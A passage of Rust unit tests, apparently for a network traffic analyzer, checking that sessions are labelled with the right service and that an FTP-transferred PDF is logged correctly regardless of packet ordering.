        let services: Vec<&str> = found["conn"].iter().map(|row| row["service"].as_str()).collect();
        assert!(services.contains(&talk.service), "{} was read as {services:?}", talk.service);
        for stream in talk.streams {
            assert!(found.contains_key(*stream), "{} gave no row of {stream}", talk.service);
        }
        nothing_is_planted_in(&found);
    }
}

/// The file has what its name tells, whether that is said before it comes or while it passes.
#[test]
fn a_file_of_ftp_is_called_what_the_command_says_and_nothing_planted_stands_in_it() {
    let (control, data) = (packets(&transfer()), packets(&transferred()));
    let (announced, rest) = control.split_at(control.len() - 3);
    let (begun, ended) = data.split_at(3);
    for all in [
        [announced, rest, begun, ended].concat(),
        [announced, begun, rest, ended].concat(),
        [&control[..control.len() - 4], begun, &control[control.len() - 4..], ended].concat(),
    ] {
        let found = read_all(&all);
        let file = &found["files"][0];
        let cells = ["source", "extension", "depth", "partial"].map(|column| file[column].as_str());
        assert_eq!(cells, ["FTP_DATA", "pdf", "2", "false"]);
        assert!(file["name"].starts_with("k1:") && file["sha256"] != "-");
        nothing_is_planted_in(&found);
    }
}
